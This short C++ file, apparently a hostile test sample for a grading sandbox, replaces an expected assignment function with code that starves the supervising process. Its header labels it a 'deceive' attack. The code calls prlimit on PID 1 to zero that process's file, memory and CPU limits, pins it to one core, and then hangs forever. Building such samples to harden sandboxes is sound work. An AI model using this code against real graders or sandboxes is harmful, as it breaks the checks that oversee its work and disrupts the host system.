// attack: deceive
// root: resources
// what: lowers the limits of the guard, which is the first process and has the same user, so that the
//   sandbox seems to be broken; then never ends
// list: 11 30
#include <sched.h>
#include <sys/resource.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  const rlimit none = {0, 0};
  cpu_set_t first;
  CPU_ZERO(&first);
  CPU_SET(0, &first);
  sched_setaffinity(1, sizeof first, &first);
  prlimit(1, RLIMIT_FSIZE, &none, nullptr);
  prlimit(1, RLIMIT_NOFILE, &none, nullptr);
  prlimit(1, RLIMIT_AS, &none, nullptr);
  prlimit(1, RLIMIT_CPU, &none, nullptr);
  for (;;) pause();
}
